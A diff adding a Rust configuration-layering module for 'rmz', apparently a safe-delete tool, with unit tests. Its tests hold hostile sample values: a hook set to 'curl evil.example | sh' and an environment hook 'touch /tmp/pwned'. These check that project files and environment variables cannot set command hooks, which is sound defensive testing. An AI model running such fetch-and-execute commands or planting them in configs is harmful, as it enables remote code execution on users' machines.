@@ -0,0 +1,932 @@
+//! Configuration merged from several sources
+//!
+//! Settings are read from, lowest precedence first: built-in defaults, the
+//! system file (`/etc/rmz/config.toml`), the user file, the nearest
+//! `.rmz.toml` above the current directory and `RMZ_*` environment
+//! variables. Later layers override single values; list values such as
+//! `protected_paths` are additive, so no layer can drop an entry that a lower
+//! one added. Every value is checked against the schema in
+//! [`config_schema`](super::config_schema).
+//!
+//! A project file comes with whatever repository was checked out, so it may
+//! only set the keys in [`PROJECT_KEYS`]. Anything that moves the trash, runs
+//! commands, changes encryption or sends log entries elsewhere is rejected.
+//! Hooks are not read from the environment either, so they only ever come
+//! from the system and user files.
+//!
+//! Files may define named profiles under `[profiles.<name>]`, e.g. a `work`
+//! profile with its own `trash_path` and `auto_clean_days`. A profile chosen
+//! with `--profile` overrides the files but not the environment, and
+//! `--trash-dir` overrides everything. `--config` replaces the user file and
+//! `RMZ_HOME` moves the default user file and trash under one directory.
+
+use super::config_schema::{file_version, find_key, migrate, unknown_keys, KEYS, SCHEMA_VERSION, UNSET, VERSION_KEY};
+use super::Config;
+use anyhow::{anyhow, Context, Result};
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+use toml::{Table, Value};
+
+/// Admin-managed defaults shared by every user on the host
+pub const SYSTEM_CONFIG_PATH: &str = "/etc/rmz/config.toml";
+
+/// Per-repository settings, found by walking up from the current directory
+pub const PROJECT_CONFIG_NAME: &str = ".rmz.toml";
+
+/// Settings a project file may set, in its top level or its profiles
+pub const PROJECT_KEYS: &[&str] = &[
+    "protected_paths",
+    "auto_clean_days",
+    "max_trash_size",
+    "colors",
+    "use_fzf",
+    "date_format",
+    "notes.prompt_threshold",
+    "git.record",
+];
+
+/// Prefix of environment variables that override settings
+pub const ENV_PREFIX: &str = "RMZ_";
+
+/// Table holding named profiles in configuration files
+pub const PROFILES_TABLE: &str = "profiles";
+
+/// Where a value came from
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Origin {
+    Default,
+    System(PathBuf),
+    User(PathBuf),
+    Project(PathBuf),
+    Environment(String),
+    /// A `[profiles.<name>]` table in the given file
+    Profile { name: String, path: PathBuf },
+    /// A global command line option such as `--trash-dir`
+    CommandLine(String),
+}
+
+impl Origin {
+    /// File the value was read from, if any
+    pub fn file(&self) -> Option<&Path> {
+        match self {
+            Origin::System(path) | Origin::User(path) | Origin::Project(path) => Some(path),
+            Origin::Profile { path, .. } => Some(path),
+            Origin::Default | Origin::Environment(_) | Origin::CommandLine(_) => None,
+        }
+    }
+}
+
+impl fmt::Display for Origin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Origin::Default => write!(f, "default"),
+            Origin::System(path) => write!(f, "system ({})", path.display()),
+            Origin::User(path) => write!(f, "user ({})", path.display()),
+            Origin::Project(path) => write!(f, "project ({})", path.display()),
+            Origin::Environment(var) => write!(f, "env {}", var),
+            Origin::Profile { name, path } => write!(f, "profile {} ({})", name, path.display()),
+            Origin::CommandLine(option) => write!(f, "command line {}", option),
+        }
+    }
+}
+
+/// Flattened settings from one source
+#[derive(Debug, Clone)]
+struct Layer {
+    /// Source of every value in the layer, unless `per_key` names another
+    origin: Origin,
+    values: BTreeMap<String, Value>,
+    /// Environment variables and profiles set keys with their own origin
+    per_key: BTreeMap<String, Origin>,
+    /// Flattened `[profiles.<name>]` tables defined by a file
+    profiles: BTreeMap<String, BTreeMap<String, Value>>,
+}
+
+/// Global options that change where configuration and trash live
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct ConfigOverrides {
+    /// Used in place of the user configuration file
+    pub config_file: Option<PathBuf>,
+    /// Trash directory taking precedence over every layer
+    pub trash_dir: Option<PathBuf>,
+    /// Profile applied on top of the files
+    pub profile: Option<String>,
+}
+
+impl ConfigOverrides {
+    /// File that user settings are read from and saved to
+    pub fn user_file(&self) -> PathBuf {
+        self.config_file.clone().unwrap_or_else(Config::config_file_path)
+    }
+
+    /// The system, user and project files, whether or not they exist
+    pub fn files(&self) -> Vec<Origin> {
+        let mut files = vec![Origin::System(PathBuf::from(SYSTEM_CONFIG_PATH)), Origin::User(self.user_file())];
+        if let Some(project) = std::env::current_dir().ok().and_then(|dir| find_project_file(&dir)) {
+            files.push(Origin::Project(project));
+        }
+        files
+    }
+
+    /// Whether [`save`](Self::save) writes the values attributed to `origin`
+    pub fn writes_to(&self, origin: &Origin) -> bool {
+        match (origin, &self.profile) {
+            (Origin::User(path), None) => *path == self.user_file(),
+            (Origin::Profile { name, path }, Some(profile)) => name == profile && *path == self.user_file(),
+            _ => false,
+        }
+    }
+
+    /// Global options that make another rmz process use the same configuration
+    ///
+    /// Paths are made absolute so the options still apply from another directory.
+    pub fn args(&self) -> Vec<String> {
+        let mut args = Vec::new();
+        if let Some(file) = &self.config_file {
+            args.extend(["--config".to_string(), absolute(file).display().to_string()]);
+        }
+        if let Some(dir) = &self.trash_dir {
+            args.extend(["--trash-dir".to_string(), absolute(dir).display().to_string()]);
+        }
+        if let Some(profile) = &self.profile {
+            args.extend(["--profile".to_string(), profile.clone()]);
+        }
+        args
+    }
+
+    /// Discover the layers and merge them
+    pub fn resolve(&self) -> Result<ResolvedConfig> {
+        ConfigLayers::discover(self)?.resolve()
+    }
+
+    /// The effective configuration
+    pub fn load(&self) -> Result<Config> {
+        Ok(self.resolve()?.config)
+    }
+
+    /// Write the settings that differ from what the layers currently resolve to
+    ///
+    /// Changes go to the user file, or to the selected profile's table in it.
+    /// Values set by the system file, a project file or the environment are left
+    /// where they are. Entries of additive lists can only be removed from the user
+    /// file; removing one added by another layer is an error.
+    pub fn save(&self, config: &Config) -> Result<()> {
+        let resolved = self.resolve()?;
+
+        let mut user = self.read_user_file()?;
+        let mut current = BTreeMap::new();
+        flatten(&to_table(config)?, "", &mut current);
+        match &self.profile {
+            Some(name) => {
+                let profiles = table_entry(&mut user, PROFILES_TABLE);
+                apply_changes(table_entry(profiles, name), &current, &resolved)?;
+            }
+            None => apply_changes(&mut user, &current, &resolved)?,
+        }
+
+        self.write_user_file(&user)
+    }
+
+    /// Remove a setting from the user file or the selected profile's table in it
+    ///
+    /// Returns false if the file did not set it.
+    pub fn unset(&self, name: &str) -> Result<bool> {
+        let mut user = self.read_user_file()?;
+        let table = match &self.profile {
+            Some(profile) => table_entry(table_entry(&mut user, PROFILES_TABLE), profile),
+            None => &mut user,
+        };
+        if !remove_dotted(table, name) {
+            return Ok(false);
+        }
+        self.write_user_file(&user)?;
+        Ok(true)
+    }
+
+    /// Rewrite the user file in the current schema, returning false if it already was
+    pub fn migrate_user_file(&self) -> Result<bool> {
+        let config_path = self.user_file();
+        if !config_path.exists() {
+            return Ok(false);
+        }
+        let content = std::fs::read_to_string(&config_path)?;
+        let table: Table = toml::from_str(&content).with_context(|| format!("Invalid TOML in {}", config_path.display()))?;
+        if file_version(&table)? == SCHEMA_VERSION {
+            return Ok(false);
+        }
+        self.write_user_file(&self.read_user_file()?)?;
+        Ok(true)
+    }
+
+    /// The user file as a table migrated to the current schema, empty if missing
+    fn read_user_file(&self) -> Result<Table> {
+        let config_path = self.user_file();
+        let mut user = if config_path.exists() {
+            let content = std::fs::read_to_string(&config_path)?;
+            toml::from_str(&content).with_context(|| format!("Invalid TOML in {}", config_path.display()))?
+        } else {
+            Table::new()
+        };
+        migrate(&mut user).with_context(|| format!("Cannot update {}", config_path.display()))?;
+        Ok(user)
+    }
+
+    fn write_user_file(&self, user: &Table) -> Result<()> {
+        let config_path = self.user_file();
+        if let Some(parent) = config_path.parent() {
+            std::fs::create_dir_all(parent)?;
+        }
+        std::fs::write(&config_path, toml::to_string_pretty(user)?)?;
+        Ok(())
+    }
+}
+
+/// Check the content of a configuration file before it is saved
+///
+/// Unknown keys are errors here, unlike when loading, so that typos are caught
+/// while the file is being edited. Every profile must resolve as well.
+pub fn validate_file(origin: Origin, content: &str) -> Result<()> {
+    let table: Table = toml::from_str(content)?;
+    let unknown = unknown_keys(&table);
+    if !unknown.is_empty() {
+        return Err(anyhow!("Unknown configuration key{}: {}", if unknown.len() == 1 { "" } else { "s" }, unknown.join(", ")));
+    }
+
+    let mut layers = ConfigLayers::default();
+    layers.push_str(origin, content)?;
+    layers.resolve()?;
+    for name in layers.profile_names() {
+        let mut profile = layers.clone();
+        profile.push_profile(&name)?;
+        profile.resolve()?;
+    }
+    Ok(())
+}
+
+/// The configuration sources in precedence order, lowest first
+#[derive(Debug, Clone, Default)]
+pub struct ConfigLayers {
+    layers: Vec<Layer>,
+}
+
+/// The merged configuration and where each value came from
+#[derive(Debug, Clone)]
+pub struct ResolvedConfig {
+    pub config: Config,
+    values: BTreeMap<String, Value>,
+    origins: BTreeMap<String, Origin>,
+    entries: BTreeMap<String, Vec<(Value, Origin)>>,
+}
+
+impl ConfigLayers {
+    /// The system, user and project files plus the process environment
+    pub fn discover(overrides: &ConfigOverrides) -> Result<Self> {
+        let mut layers = Self::default();
+        if let Some(path) = &overrides.config_file {
+            if !path.is_file() {
+                return Err(anyhow!("Configuration file {} does not exist", path.display()));
+            }
+        }
+        for origin in overrides.files() {
+            layers.push_file(origin)?;
+        }
+        if let Some(profile) = &overrides.profile {
+            layers.push_profile(profile)?;
+        }
+        layers.push_env(std::env::vars())?;
+        if let Some(trash_dir) = &overrides.trash_dir {
+            layers.push_trash_dir(trash_dir);
+        }
+        Ok(layers)
+    }
+
+    /// Add the file named by a file origin, if it exists
+    pub fn push_file(&mut self, origin: Origin) -> Result<()> {
+        let path = origin.file().ok_or_else(|| anyhow!("{} is not a file", origin))?;
+        if !path.exists() {
+            return Ok(());
+        }
+
+        let content = std::fs::read_to_string(path)
+            .with_context(|| format!("Failed to read {}", path.display()))?;
+        self.push_str(origin, &content)
+    }
+
+    /// Add file content as if it had been read from the file named by `origin`
+    ///
+    /// Files written by older versions are migrated in memory.
+    pub fn push_str(&mut self, origin: Origin, content: &str) -> Result<()> {
+        let path = origin.file().ok_or_else(|| anyhow!("{} is not a file", origin))?.to_path_buf();
+        let mut table: Table =
+            toml::from_str(content).with_context(|| format!("Invalid TOML in {}", path.display()))?;
+        migrate(&mut table).with_context(|| format!("Cannot read {}", path.display()))?;
+        table.remove(VERSION_KEY);
+        let base = path.parent().unwrap_or(Path::new("/"));
+
+        let mut profiles = BTreeMap::new();
+        if let Some(value) = table.remove(PROFILES_TABLE) {
+            let Value::Table(tables) = value else {
+                return Err(anyhow!("{} in {} must be a table", PROFILES_TABLE, origin));
+            };
+            for (name, profile) in tables {
+                let Value::Table(profile) = profile else {
+                    return Err(anyhow!("{}.{} in {} must be a table", PROFILES_TABLE, name, origin));
+                };
+                profiles.insert(name, file_values(&profile, base));
+            }
+        }
+
+        let values = file_values(&table, base);
+        if matches!(origin, Origin::Project(_)) {
+            let mut forbidden: Vec<&str> = values
+                .keys()
+                .chain(profiles.values().flat_map(BTreeMap::keys))
+                .map(String::as_str)
+                .filter(|name| find_key(name).is_some() && !PROJECT_KEYS.contains(name))
+                .collect();
+            forbidden.sort();
+            forbidden.dedup();
+            if !forbidden.is_empty() {
+                return Err(anyhow!(
+                    "{} cannot be set in project file {}; project files may only set {}",
+                    forbidden.join(", "),
+                    path.display(),
+                    PROJECT_KEYS.join(", ")
+                ));
+            }
+        }
+
+        self.layers.push(Layer {
+            origin,
+            values,
+            per_key: BTreeMap::new(),
+            profiles,
+        });
+        Ok(())
+    }
+
+    /// Add the settings of a profile defined by the files added so far
+    ///
+    /// A profile that does not set `trash_path` gets its own trash next to the
+    /// default one, so profiles never share items by accident.
+    pub fn push_profile(&mut self, name: &str) -> Result<()> {
+        let mut values = BTreeMap::new();
+        let mut per_key = BTreeMap::new();
+        let mut defined_in = None;
+
+        for layer in &self.layers {
+            let Some(profile) = layer.profiles.get(name) else {
+                continue;
+            };
+            let Some(path) = layer.origin.file() else {
+                continue;
+            };
+            let origin = Origin::Profile { name: name.to_string(), path: path.to_path_buf() };
+            for (key, value) in profile {
+                values.insert(key.clone(), value.clone());
+                per_key.insert(key.clone(), origin.clone());
+            }
+            defined_in = Some(origin);
+        }
+
+        let Some(origin) = defined_in else {
+            let defined = self.profile_names();
+            return Err(if defined.is_empty() {
+                anyhow!("Unknown profile '{}': no profiles are defined", name)
+            } else {
+                anyhow!("Unknown profile '{}'. Defined profiles: {}", name, defined.join(", "))
+            });
+        };
+
+        if !values.contains_key("trash_path") {
+            let default = Config::default_trash_path();
+            let root = default.parent().unwrap_or(&default).join(PROFILES_TABLE).join(name).join("trash");
+            values.insert("trash_path".to_string(), Value::String(root.display().to_string()));
+        }
+
+        self.layers.push(Layer {
+            origin,
+            values,
+            per_key,
+            profiles: BTreeMap::new(),
+        });
+        Ok(())
+    }
+
+    /// Names of the profiles defined by the files added so far
+    pub fn profile_names(&self) -> Vec<String> {
+        let mut names: Vec<String> = self.layers.iter().flat_map(|layer| layer.profiles.keys().cloned()).collect();
+        names.sort();
+        names.dedup();
+        names
+    }
+
+    /// Use `dir` as the trash directory regardless of the other layers
+    pub fn push_trash_dir(&mut self, dir: &Path) {
+        self.layers.push(Layer {
+            origin: Origin::CommandLine("--trash-dir".to_string()),
+            values: BTreeMap::from([("trash_path".to_string(), Value::String(absolute(dir).display().to_string()))]),
+            per_key: BTreeMap::new(),
+            profiles: BTreeMap::new(),
+        });
+    }
+
+    /// Add the `RMZ_*` variables that name a setting; others are ignored
+    ///
+    /// Settings that run commands are ignored too, as environment variables
+    /// are easily inherited from a process the user does not control.
+    pub fn push_env(&mut self, vars: impl IntoIterator<Item = (String, String)>) -> Result<()> {
+        let vars: BTreeMap<String, String> = vars.into_iter().collect();
+        let mut values = BTreeMap::new();
+        let mut per_key = BTreeMap::new();
+
+        for key in KEYS.iter().filter(|key| !key.runs_commands()) {
+            let var = key.env_var();
+            let Some(raw) = vars.get(&var) else {
+                continue;
+            };
+            let value = key
+                .parse(raw)
+                .map_err(|e| anyhow!("Invalid value for {} in env {}: {}", key.name, var, e))?;
+            values.insert(key.name.to_string(), value);
+            per_key.insert(key.name.to_string(), Origin::Environment(var));
+        }
+
+        if !values.is_empty() {
+            self.layers.push(Layer {
+                origin: Origin::Environment(ENV_PREFIX.to_string() + "*"),
+                values,
+                per_key,
+                profiles: BTreeMap::new(),
+            });
+        }
+        Ok(())
+    }
+
+    /// Merge the layers over the defaults
+    pub fn resolve(&self) -> Result<ResolvedConfig> {
+        let mut values = BTreeMap::new();
+        flatten(&to_table(&Config::default())?, "", &mut values);
+
+        let mut origins: BTreeMap<String, Origin> =
+            values.keys().map(|name| (name.clone(), Origin::Default)).collect();
+        let mut entries: BTreeMap<String, Vec<(Value, Origin)>> = BTreeMap::new();
+        for key in KEYS.iter().filter(|key| key.is_additive()) {
+            let defaults = values.get(key.name).and_then(Value::as_array).cloned().unwrap_or_default();
+            entries.insert(key.name.to_string(), defaults.into_iter().map(|value| (value, Origin::Default)).collect());
+        }
+
+        for layer in &self.layers {
+            for (name, value) in &layer.values {
+                let origin = layer.per_key.get(name).unwrap_or(&layer.origin).clone();
+                let key = find_key(name);
+                if let Some(key) = key {
+                    key.check(value)
+                        .map_err(|e| anyhow!("Invalid value for {} in {}: {}", name, origin, e))?;
+                }
+
+                if key.is_some_and(|key| key.is_additive()) {
+                    let Value::Array(items) = value else {
+                        return Err(anyhow!("{} in {} must be a list", name, origin));
+                    };
+                    let merged = entries.entry(name.clone()).or_default();
+                    for item in items {
+                        if !merged.iter().any(|(existing, _)| existing == item) {
+                            merged.push((item.clone(), origin.clone()));
+                        }
+                    }
+                    values.insert(name.clone(), Value::Array(merged.iter().map(|(item, _)| item.clone()).collect()));
+                } else if key.is_some_and(|key| key.optional) && value.as_str() == Some(UNSET) {
+                    values.remove(name);
+                } else {
+                    values.insert(name.clone(), value.clone());
+                }
+
+                // Everything merged so far was valid, so a failure here is this value's fault
+                Value::Table(unflatten(&values))
+                    .try_into::<Config>()
+                    .map_err(|e| anyhow!("Invalid value for {} in {}: {}", name, origin, e.message()))?;
+                origins.insert(name.clone(), origin);
+            }
+        }
+
+        Ok(ResolvedConfig {
+            config: Value::Table(unflatten(&values)).try_into()?,
+            values,
+            origins,
+            entries,
+        })
+    }
+}
+
+impl ResolvedConfig {
+    /// Effective value of a setting, or None if it is unset
+    pub fn value(&self, name: &str) -> Option<&Value> {
+        self.values.get(name)
+    }
+
+    /// Layer that last set a setting
+    pub fn origin(&self, name: &str) -> Option<&Origin> {
+        self.origins.get(name)
+    }
+
+    /// Items of an additive list with the layer that added each
+    pub fn entries(&self, name: &str) -> &[(Value, Origin)] {
+        self.entries.get(name).map(Vec::as_slice).unwrap_or(&[])
+    }
+}
+
+impl Config {
+    /// Replace one setting, or unset an optional one with None
+    pub fn set_value(&mut self, name: &str, value: Option<Value>) -> Result<()> {
+        let key = find_key(name).ok_or_else(|| anyhow!("Unknown configuration key: {}", name))?;
+        let mut values = BTreeMap::new();
+        flatten(&to_table(self)?, "", &mut values);
+        match value {
+            Some(value) if value.as_str() != Some(UNSET) => {
+                key.check(&value)?;
+                values.insert(name.to_string(), value);
+            }
+            _ if key.optional => {
+                values.remove(name);
+            }
+            _ => return Err(anyhow!("{} cannot be unset", name)),
+        }
+        *self = Value::Table(unflatten(&values)).try_into()?;
+        Ok(())
+    }
+
+    /// Write changed settings into the user file
+    ///
+    /// See [`ConfigOverrides::save`].
+    pub fn save(&self) -> Result<()> {
+        ConfigOverrides::default().save(self)
+    }
+}
+
+/// Record in `user` every setting whose value in `current` differs from `resolved`
+fn apply_changes(user: &mut Table, current: &BTreeMap<String, Value>, resolved: &ResolvedConfig) -> Result<()> {
+    for key in KEYS {
+        let (new, old) = (current.get(key.name), resolved.value(key.name));
+        if new == old {
+            continue;
+        }
+
+        if key.is_additive() {
+            let new = new.and_then(Value::as_array).cloned().unwrap_or_default();
+            let mut list = get_dotted(user, key.name).and_then(Value::as_array).cloned().unwrap_or_default();
+            for (item, origin) in resolved.entries(key.name) {
+                if !new.contains(item) && !list.contains(item) {
+                    return Err(anyhow!(
+                        "{} entry {} comes from the {} configuration and cannot be removed here",
+                        key.name,
+                        item.as_str().map_or_else(|| item.to_string(), str::to_string),
+                        origin
+                    ));
+                }
+            }
+            list.retain(|item| new.contains(item));
+            for item in new {
+                if !list.contains(&item) && !resolved.entries(key.name).iter().any(|(existing, _)| *existing == item) {
+                    list.push(item);
+                }
+            }
+            set_dotted(user, key.name, Value::Array(list));
+        } else {
+            set_dotted(user, key.name, new.cloned().unwrap_or_else(|| Value::String(UNSET.to_string())));
+        }
+    }
+    Ok(())
+}
+
+/// Nearest project file in `dir` or one of its ancestors
+pub fn find_project_file(dir: &Path) -> Option<PathBuf> {
+    dir.ancestors()
+        .map(|ancestor| ancestor.join(PROJECT_CONFIG_NAME))
+        .find(|candidate| candidate.is_file())
+}
+
+/// Flattened settings of a file table with paths made absolute
+fn file_values(table: &Table, base: &Path) -> BTreeMap<String, Value> {
+    let mut values = BTreeMap::new();
+    flatten(table, "", &mut values);
+    for (name, value) in values.iter_mut() {
+        if find_key(name).is_some_and(|key| key.is_path()) {
+            resolve_paths(value, base);
+        }
+    }
+    values
+}
+
+/// Nested table under `name`, replacing any other value stored there
+fn table_entry<'t>(table: &'t mut Table, name: &str) -> &'t mut Table {
+    let entry = table.entry(name.to_string()).or_insert_with(|| Value::Table(Table::new()));
+    if !entry.is_table() {
+        *entry = Value::Table(Table::new());
+    }
+    entry.as_table_mut().expect("replaced with a table above")
+}
+
+fn absolute(path: &Path) -> PathBuf {
+    std::path::absolute(path).unwrap_or_else(|_| path.to_path_buf())
+}
+
+/// Make relative path strings relative to `base`
+fn resolve_paths(value: &mut Value, base: &Path) {
+    match value {
+        Value::String(path) if Path::new(path.as_str()).is_relative() && path != UNSET => {
+            *path = base.join(path.as_str()).display().to_string();
+        }
+        Value::Array(items) => items.iter_mut().for_each(|item| resolve_paths(item, base)),
+        _ => {}
+    }
+}
+
+fn to_table(config: &Config) -> Result<Table> {
+    match Value::try_from(config)? {
+        Value::Table(table) => Ok(table),
+        _ => Err(anyhow!("Configuration did not serialize to a table")),
+    }
+}
+
+/// Collect leaf values under dotted names, e.g. `compression.level`
+fn flatten(table: &Table, prefix: &str, out: &mut BTreeMap<String, Value>) {
+    for (name, value) in table {
+        let name = if prefix.is_empty() { name.clone() } else { format!("{}.{}", prefix, name) };
+        match value {
+            Value::Table(inner) => flatten(inner, &name, out),
+            _ => {
+                out.insert(name, value.clone());
+            }
+        }
+    }
+}
+
+fn unflatten(values: &BTreeMap<String, Value>) -> Table {
+    let mut table = Table::new();
+    for (name, value) in values {
+        set_dotted(&mut table, name, value.clone());
+    }
+    table
+}
+
+/// Remove a dotted key and any tables left empty by it
+fn remove_dotted(table: &mut Table, name: &str) -> bool {
+    match name.split_once('.') {
+        Some((head, rest)) => {
+            let Some(inner) = table.get_mut(head).and_then(Value::as_table_mut) else {
+                return false;
+            };
+            let removed = remove_dotted(inner, rest);
+            if inner.is_empty() {
+                table.remove(head);
+            }
+            removed
+        }
+        None => table.remove(name).is_some(),
+    }
+}
+
+fn get_dotted<'t>(table: &'t Table, name: &str) -> Option<&'t Value> {
+    match name.split_once('.') {
+        Some((head, rest)) => table.get(head)?.as_table().and_then(|inner| get_dotted(inner, rest)),
+        None => table.get(name),
+    }
+}
+
+fn set_dotted(table: &mut Table, name: &str, value: Value) {
+    match name.split_once('.') {
+        Some((head, rest)) => set_dotted(table_entry(table, head), rest, value),
+        None => {
+            table.insert(name.to_string(), value);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+    use tempfile::TempDir;
+
+    fn write(dir: &TempDir, name: &str, content: &str) -> PathBuf {
+        let path = dir.path().join(name);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(&path, content).unwrap();
+        path
+    }
+
+    fn env(vars: &[(&str, &str)]) -> Vec<(String, String)> {
+        vars.iter().map(|(name, value)| (name.to_string(), value.to_string())).collect()
+    }
+
+    #[test]
+    fn test_keys_cover_serialized_config() {
+        let mut values = BTreeMap::new();
+        flatten(&to_table(&Config::default()).unwrap(), "", &mut values);
+        for name in values.keys() {
+            assert!(find_key(name).is_some(), "{} is missing from KEYS", name);
+        }
+        assert_eq!(find_key("compression.min_age_days").unwrap().env_var(), "RMZ_COMPRESSION_MIN_AGE_DAYS");
+    }
+
+    #[test]
+    fn test_layers_override_in_order() {
+        let dir = TempDir::new().unwrap();
+        let system = write(&dir, "etc/config.toml", "auto_clean_days = 7\nuse_fzf = false\n[compression]\nlevel = 9\n");
+        let user = write(&dir, "home/config.toml", "auto_clean_days = 14\ntrash_path = \".trash\"\n");
+        let project = write(&dir, "repo/.rmz.toml", "auto_clean_days = \"none\"\n");
+
+        let mut layers = ConfigLayers::default();
+        layers.push_file(Origin::System(system.clone())).unwrap();
+        layers.push_file(Origin::User(user)).unwrap();
+        layers.push_file(Origin::Project(project.clone())).unwrap();
+        layers.push_env(env(&[("RMZ_COMPRESSION_LEVEL", "12"), ("RMZ_HOME_DIR", "ignored")])).unwrap();
+        let resolved = layers.resolve().unwrap();
+
+        assert_eq!(resolved.config.auto_clean_days, None);
+        assert_eq!(resolved.origin("auto_clean_days"), Some(&Origin::Project(project.clone())));
+        assert!(!resolved.config.use_fzf);
+        assert_eq!(resolved.origin("use_fzf"), Some(&Origin::System(system)));
+        assert_eq!(resolved.config.compression.level, 12);
+        assert_eq!(
+            resolved.origin("compression.level"),
+            Some(&Origin::Environment("RMZ_COMPRESSION_LEVEL".to_string()))
+        );
+        assert_eq!(resolved.config.trash_path, dir.path().join("home/.trash"));
+        assert_eq!(resolved.origin("colors"), Some(&Origin::Default));
+    }
+
+    #[test]
+    fn test_hooks_are_not_read_from_the_environment() {
+        let mut layers = ConfigLayers::default();
+        layers
+            .push_env(env(&[
+                ("RMZ_HOOKS_PRE_DELETE", "touch /tmp/pwned"),
+                ("RMZ_HOOKS_DIR", "/tmp/hooks"),
+                ("RMZ_HOOKS_TIMEOUT_SECS", "5"),
+            ]))
+            .unwrap();
+        let resolved = layers.resolve().unwrap();
+        assert_eq!(resolved.config.hooks.pre_delete, None);
+        assert_eq!(resolved.origin("hooks.dir"), Some(&Origin::Default));
+        assert_eq!(resolved.config.hooks.timeout_secs, 5);
+    }
+
+    #[test]
+    fn test_project_file_only_sets_allowed_keys() {
+        let dir = TempDir::new().unwrap();
+        let allowed = write(&dir, "ok/.rmz.toml", "auto_clean_days = 3\nprotected_paths = [\"keep\"]\n");
+        let mut layers = ConfigLayers::default();
+        layers.push_file(Origin::Project(allowed)).unwrap();
+        let resolved = layers.resolve().unwrap();
+        assert_eq!(resolved.config.auto_clean_days, Some(3));
+        assert!(resolved.config.protected_paths.contains(&dir.path().join("ok/keep")));
+
+        for content in [
+            "trash_path = \"/tmp/elsewhere\"\n",
+            "[hooks]\npre_delete = \"curl evil.example | sh\"\n",
+            "[hooks]\ndir = \"hooks\"\n",
+            "[encryption]\nenabled = false\n",
+            "[log]\nsinks = [\"syslog\"]\n",
+            "[profiles.ci]\ntrash_path = \"/tmp/elsewhere\"\n",
+        ] {
+            let project = write(&dir, "repo/.rmz.toml", content);
+            let error = ConfigLayers::default().push_file(Origin::Project(project)).unwrap_err().to_string();
+            assert!(error.contains("cannot be set in project file"), "{}", error);
+        }
+
+        // The same settings are fine in the user's own file
+        let user = write(&dir, "home/config.toml", "[hooks]\npre_delete = \"true\"\n");
+        ConfigLayers::default().push_file(Origin::User(user)).unwrap();
+    }
+
+    #[test]
+    fn test_protected_paths_are_additive() {
+        let dir = TempDir::new().unwrap();
+        let system = write(&dir, "etc/config.toml", "protected_paths = [\"/srv\"]\n");
+        let user = write(&dir, "home/config.toml", "protected_paths = [\"/home/me/keep\", \"/srv\"]\n");
+
+        let mut layers = ConfigLayers::default();
+        layers.push_file(Origin::System(system.clone())).unwrap();
+        layers.push_file(Origin::User(user.clone())).unwrap();
+        layers.push_env(env(&[("RMZ_PROTECTED_PATHS", "/data:/backups")])).unwrap();
+        let resolved = layers.resolve().unwrap();
+
+        let protected = &resolved.config.protected_paths;
+        for path in ["/etc", "/srv", "/home/me/keep", "/data", "/backups"] {
+            assert!(protected.contains(&PathBuf::from(path)), "{} should be protected", path);
+        }
+        let origin_of = |path: &str| {
+            resolved
+                .entries("protected_paths")
+                .iter()
+                .find(|(value, _)| value.as_str() == Some(path))
+                .map(|(_, origin)| origin.clone())
+        };
+        assert_eq!(origin_of("/etc"), Some(Origin::Default));
+        assert_eq!(origin_of("/srv"), Some(Origin::System(system)));
+        assert_eq!(origin_of("/home/me/keep"), Some(Origin::User(user)));
+    }
+
+    #[test]
+    fn test_invalid_value_names_layer() {
+        let dir = TempDir::new().unwrap();
+        let user = write(&dir, "config.toml", "colors = \"loud\"\n");
+
+        let mut layers = ConfigLayers::default();
+        layers.push_file(Origin::User(user)).unwrap();
+        let message = layers.resolve().unwrap_err().to_string();
+        assert!(message.contains("user ("), "{}", message);
+        assert!(message.contains("colors"), "{}", message);
+    }
+
+    #[test]
+    fn test_apply_changes_writes_only_differences() {
+        let dir = TempDir::new().unwrap();
+        let system = write(&dir, "etc/config.toml", "auto_clean_days = 7\nprotected_paths = [\"/srv\"]\n");
+        let mut layers = ConfigLayers::default();
+        layers.push_file(Origin::System(system)).unwrap();
+        let resolved = layers.resolve().unwrap();
+
+        let mut config = resolved.config.clone();
+        config.use_fzf = false;
+        config.auto_clean_days = None;
+        config.add_protected_path(PathBuf::from("/home/me/keep"));
+        let mut current = BTreeMap::new();
+        flatten(&to_table(&config).unwrap(), "", &mut current);
+
+        let mut user = Table::new();
+        apply_changes(&mut user, &current, &resolved).unwrap();
+        let expected: Table = toml::from_str(
+            "use_fzf = false\nauto_clean_days = \"none\"\nprotected_paths = [\"/home/me/keep\"]\n",
+        )
+        .unwrap();
+        assert_eq!(user, expected);
+
+        config.remove_protected_path(&PathBuf::from("/srv"));
+        flatten(&to_table(&config).unwrap(), "", &mut current);
+        assert!(apply_changes(&mut Table::new(), &current, &resolved).is_err());
+    }
+
+    #[test]
+    fn test_profile_overrides_files_but_not_environment() {
+        let dir = TempDir::new().unwrap();
+        let user = write(
+            &dir,
+            "home/config.toml",
+            "auto_clean_days = 30\nuse_fzf = false\n\n[profiles.work]\ntrash_path = \"work-trash\"\nauto_clean_days = 7\n\n[profiles.scratch]\nauto_clean_days = 1\n",
+        );
+
+        let mut layers = ConfigLayers::default();
+        layers.push_file(Origin::User(user.clone())).unwrap();
+        assert_eq!(layers.profile_names(), vec!["scratch", "work"]);
+        assert_eq!(layers.resolve().unwrap().config.auto_clean_days, Some(30));
+
+        let mut work = layers.clone();
+        work.push_profile("work").unwrap();
+        work.push_env(env(&[("RMZ_AUTO_CLEAN_DAYS", "3")])).unwrap();
+        let resolved = work.resolve().unwrap();
+        assert_eq!(resolved.config.trash_path, dir.path().join("home/work-trash"));
+        assert_eq!(
+            resolved.origin("trash_path"),
+            Some(&Origin::Profile { name: "work".to_string(), path: user.clone() })
+        );
+        assert_eq!(resolved.config.auto_clean_days, Some(3));
+        assert!(!resolved.config.use_fzf);
+
+        let mut scratch = layers.clone();
+        scratch.push_profile("scratch").unwrap();
+        let trash_path = scratch.resolve().unwrap().config.trash_path;
+        assert!(trash_path.ends_with("profiles/scratch/trash"), "{}", trash_path.display());
+
+        let message = layers.push_profile("home").unwrap_err().to_string();
+        assert!(message.contains("Defined profiles: scratch, work"), "{}", message);
+    }
+
+    #[test]
+    fn test_trash_dir_overrides_everything() {
+        let dir = TempDir::new().unwrap();
+        let user = write(&dir, "config.toml", "trash_path = \"/srv/trash\"\n");
+
+        let mut layers = ConfigLayers::default();
+        layers.push_file(Origin::User(user)).unwrap();
